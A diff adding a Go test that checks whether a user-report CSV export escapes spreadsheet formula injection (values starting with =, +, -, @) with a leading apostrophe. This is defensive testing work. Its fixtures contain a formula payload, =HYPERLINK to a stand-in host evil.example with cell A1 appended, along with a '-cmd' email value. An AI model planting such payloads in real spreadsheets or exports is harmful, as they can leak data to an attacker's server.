@@ -72,3 +72,45 @@ func TestReport(t *testing.T) {
 		})
 	}
 }
+
+// TestReportCellsAreNotFormulas: a full name, e-mail or role name a
+// spreadsheet would run as a formula (=, +, -, @, tab, CR first) is written
+// with a leading apostrophe; other values are written as they are.
+func TestReportCellsAreNotFormulas(t *testing.T) {
+	e := setup(t)
+	e.add(t, &object.User{Meta: object.Meta{Name: "mallory"}, FullName: `=HYPERLINK("http://evil.example/?"&A1,"click")`,
+		EmailAddress: "-cmd@example.com", Enabled: true})
+	e.add(t, &object.User{Meta: object.Meta{Name: "nat"}, FullName: "+1 555", EmailAddress: "nat@example.com", Enabled: true})
+	e.add(t, &object.User{Meta: object.Meta{Name: "oz"}, FullName: "-2+3", Enabled: true})
+	e.add(t, &object.User{Meta: object.Meta{Name: "pat"}, FullName: "Pat = Patricia", Enabled: true})
+	if res := e.run(t, "report", map[string]any{"name": "Formulas"}, runOpts{}); res.err != nil {
+		t.Fatal(res.err)
+	}
+	o, err := e.store.GetByName(t.Context(), object.TypeReport, "Formulas")
+	if err != nil {
+		t.Fatal(err)
+	}
+	f, _, err := e.reports.Open(o.(*object.Report).FileName)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	recs, err := csv.NewReader(f).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string][]string{}
+	for _, r := range recs {
+		got[r[0]] = r
+	}
+	for name, want := range map[string][2]string{
+		"mallory": {`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'-cmd@example.com"},
+		"nat":     {"'+1 555", "nat@example.com"},
+		"oz":      {"'-2+3", ""},
+		"pat":     {"Pat = Patricia", ""},
+	} {
+		if r := got[name]; len(r) < 3 || r[1] != want[0] || r[2] != want[1] {
+			t.Errorf("%s: fullName and e-mail %q, want %q", name, r, want)
+		}
+	}
+}
